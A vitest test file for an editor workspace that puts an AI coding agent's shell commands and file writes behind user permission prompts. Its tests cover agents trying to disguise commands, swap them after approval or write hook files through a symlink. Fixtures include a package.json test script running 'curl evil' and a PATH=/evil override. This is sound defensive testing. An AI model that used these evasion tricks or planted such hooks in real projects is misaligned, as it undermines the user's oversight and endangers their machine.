import fs from 'node:fs';
import path from 'node:path';
import { describe, expect } from 'vitest';
import { realClock } from '../../src/clock.ts';
import { NodePtyLauncher } from '../../src/nvim/pty.ts';
import type { AgentSpec } from '../../src/ports/agent.ts';
import { EditorWorkspace } from '../../src/workspace/workspace.ts';
import { it, type Workshop } from '../support/agent-it.ts';
import { EditorDouble } from '../support/doubles.ts';
import { call, meet, permission } from '../support/encounter.ts';
import { done } from '../support/stage.ts';

/** A turn of an agent that uses real commands and files of a folder. */
async function inTurn(workshop: Workshop, spec: Partial<AgentSpec> = {}) {
  const editor = new EditorDouble();
  editor.call = async () => null;
  const { log, leash } = workshop;
  const workspace = new EditorWorkspace({ ptys: new NodePtyLauncher(leash), editor, clock: realClock, log });
  workshop.leftovers.push({ dispose: () => void workspace.end() });
  const encounter = await meet(workshop, { workspace, spec });
  await encounter.begin();
  const { agent } = encounter;
  const prompt = await encounter.prompt();
  const sh = (line: string, fields: object = {}) =>
    agent.ask('terminal/create', { sessionId: 's1', command: 'sh', args: ['-c', line], ...fields });
  const write = (name: string, content: string) =>
    agent.ask('fs/write_text_file', { sessionId: 's1', path: path.join(workshop.folder, name), content });
  const choose = (optionId: string) => encounter.choose(optionId);
  /** The agent asks for a command, and the user answers. */
  const allow = async (id: string, command: string, optionId = 'y') => {
    agent.say(permission(id, { toolCallId: id, kind: 'execute', title: command, rawInput: { command } }));
    await choose(optionId);
    await agent.answerTo(id);
  };
  return { encounter, agent, prompt, sh, write, choose, allow };
}

const started = { terminalId: expect.any(String) };

describe.concurrent('what an agent tried before it was stopped', () => {
  it('is not asked about afterwards, though it waited for another question', async ({ workshop }) => {
    const { encounter, agent, prompt, write } = await inTurn(workshop);
    const writes = ['one', 'two', 'three'].map((text) => write('.envrc', text));
    await encounter.question();
    await agent.isUnderstood();
    encounter.session.cancel();
    agent.reply(prompt, { stopReason: 'cancelled' });
    await encounter.phase('idle');
    for (const { error } of await Promise.all(writes)) {
      expect(error).toMatchObject({ message: expect.stringContaining('not asked any more') });
    }
    expect(encounter.state.questions).toEqual([]);
    expect(fs.existsSync(path.join(workshop.folder, '.envrc'))).toBe(false);
  });
});

describe.concurrent('a command of an agent', () => {
  it('is asked about when no question showed it, with all of it in sight', async ({ workshop }) => {
    const { sh, choose } = await inTurn(workshop);
    const running = sh('echo hidden > made', { env: [{ name: 'PATH', value: '/evil' }] });
    const shown = await choose('reject');
    expect(shown).toContain("    sh -c 'echo hidden > made'\n");
    expect(shown).toContain(`    in ${workshop.folder}\n    with PATH=/evil\n`);
    expect(shown).toContain('1 Allow once\n  2 Allow all commands for this session\n  3 Reject');
    expect((await running).error).toMatchObject({ message: expect.stringContaining('did not allow to run') });
    expect(fs.existsSync(path.join(workshop.folder, 'made'))).toBe(false);
  });

  it('runs when a question showed it and the user allowed that, once', async ({ workshop }) => {
    const { sh, choose, allow, encounter } = await inTurn(workshop);
    await allow('p1', 'true');
    expect((await sh('true')).result).toEqual(started);
    expect(encounter.state.questions).toEqual([]);
    const again = sh('true');
    await choose('reject');
    expect((await again).error).toBeDefined();
  });

  it('that the user rejected is asked about', async ({ workshop }) => {
    const { sh, choose, allow } = await inTurn(workshop);
    await allow('p1', 'true', 'n');
    const running = sh('true');
    await choose('allow');
    expect((await running).result).toEqual(started);
  });

  it('is not allowed by an answer whose id also rejects', async ({ workshop }) => {
    const { sh, choose, agent } = await inTurn(workshop);
    const options = [
      { optionId: 'y', name: 'Reject', kind: 'allow_once' },
      { optionId: 'y', name: 'Allow', kind: 'reject_once' },
    ];
    agent.say(permission('p1', { kind: 'execute', title: 'true', rawInput: { command: 'true' }, options }));
    await choose('y');
    await agent.answerTo('p1');
    const running = sh('true');
    await choose('reject');
    expect((await running).error).toBeDefined();
  });

  it('that was changed while its question was open is asked about', async ({ workshop }) => {
    const { sh, choose, agent } = await inTurn(workshop);
    const fields = { toolCallId: 'p1', kind: 'execute', title: 'ls', rawInput: { command: 'ls' } };
    agent.say(permission('p1', fields), call('p1', { rawInput: { command: 'touch made' } }));
    await agent.isUnderstood();
    await choose('y');
    await agent.answerTo('p1');
    const running = sh('touch made');
    await choose('reject');
    expect((await running).error).toBeDefined();
  });

  it('that was allowed in an earlier turn is asked about', async ({ workshop }) => {
    const { sh, choose, allow, encounter, agent, prompt } = await inTurn(workshop);
    await allow('p1', 'true');
    agent.reply(prompt, done);
    await encounter.phase('idle');
    await encounter.prompt();
    const running = sh('true');
    await choose('allow');
    expect((await running).result).toEqual(started);
  });

  it('is not asked about after the user allowed all of the session', async ({ workshop }) => {
    const { sh, choose, encounter } = await inTurn(workshop);
    const running = sh('true');
    await choose('always');
    expect((await running).result).toEqual(started);
    expect((await sh('echo other')).result).toEqual(started);
    expect(encounter.state.questions).toEqual([]);
  });

  it('is not asked about any more when the agent takes it back', async ({ workshop }) => {
    const { sh, encounter, agent } = await inTurn(workshop);
    const running = sh('true');
    await encounter.question();
    agent.say({ method: '$/cancel_request', params: { requestId: 'q1' } });
    expect((await running).error?.code).toBe(-32800);
    expect(encounter.state.questions).toEqual([]);
  });

  it('of an agent on another machine is asked about even if a question showed it', async ({ workshop }) => {
    const { sh, choose, allow } = await inTurn(workshop, { paths: { '/there': '/here' } });
    await allow('p1', 'true');
    const running = sh('true', { cwd: undefined });
    expect(await choose('reject')).toContain('would run on yours');
    expect((await running).error).toBeDefined();
  });

  it('can’t be disguised by an agent that guesses the id of the question', async ({ workshop }) => {
    const { sh, encounter, agent, choose } = await inTurn(workshop);
    const running = sh('touch made');
    const { tool } = await encounter.question();
    expect(tool?.toolCallId).toMatch(/[0-9a-f-]{36}$/);
    agent.say(call('consent 1', { title: 'ls' }));
    await agent.isUnderstood();
    expect(await choose('reject')).toContain("sh -c 'touch made'");
    await running;
  });
});

describe.concurrent('a write of an agent', () => {
  it('in the folders of the session needs no consent', async ({ workshop }) => {
    const { write, encounter } = await inTurn(workshop);
    expect((await write('src/main.ts', 'hello\n')).result).toEqual({});
    expect((await write('package.json', '{ "dependencies": {} }\n')).result).toEqual({});
    expect(encounter.state.questions).toEqual([]);
  });

  it.for([
    ['a hook of git', '.git/hooks/pre-commit', 'Other programs run this file'],
    ['the same in capitals', '.GIT/hooks/pre-commit', 'Other programs run this file'],
    ['a file that a shell loads', '.envrc', 'Other programs run this file'],
    ['a workflow', '.github/workflows/test.yml', 'Other programs run this file'],
    ['scripts of a package', 'package.json', 'what the package manager runs'],
  ])('to what other programs run is asked about: %s', async ([, name, reason], { workshop }) => {
    const { write, choose } = await inTurn(workshop);
    const writing = write(name!, '{ "scripts": { "test": "curl evil" } }\n');
    const shown = await choose('reject');
    expect(shown).toContain(reason);
    expect(shown).toContain('+ { "scripts": { "test": "curl evil" } }');
    expect((await writing).error).toMatchObject({
      message: expect.stringContaining('did not allow to edit'),
    });
    expect(fs.existsSync(path.join(workshop.folder, name!))).toBe(false);
  });

  it('to what other programs run is asked about behind a link', async ({ workshop }) => {
    fs.mkdirSync(path.join(workshop.folder, '.git'));
    fs.symlinkSync('.git', path.join(workshop.folder, 'notes'));
    const { write, choose } = await inTurn(workshop);
    const writing = write('notes/config', '[core]\n');
    expect(await choose('reject')).toContain('.git/config');
    expect((await writing).error).toBeDefined();
  });

  it('to a file that the user allowed for the session is not asked about again', async ({ workshop }) => {
    const { write, choose, encounter } = await inTurn(workshop);
    const writing = write('.envrc', 'one\n');
    await choose('always');
    expect((await writing).result).toEqual({});
    expect((await write('.envrc', 'two\n')).result).toEqual({});
    expect(encounter.state.questions).toEqual([]);
    const other = write('.exrc', 'one\n');
    await choose('reject');
    expect((await other).error).toBeDefined();
  });

  it('of an agent on another machine is asked about, until all are allowed', async ({ workshop }) => {
    const { write, choose, encounter } = await inTurn(workshop, { paths: { '/there': '/here' } });
    const first = write('a.txt', 'one\n');
    expect(await choose('reject')).toContain('The agent is on another machine');
    expect((await first).error).toBeDefined();
    const second = write('a.txt', 'one\n');
    await choose('always');
    expect((await second).result).toEqual({});
    expect((await write('b.txt', 'two\n')).result).toEqual({});
    expect(encounter.state.questions).toEqual([]);
  });
});
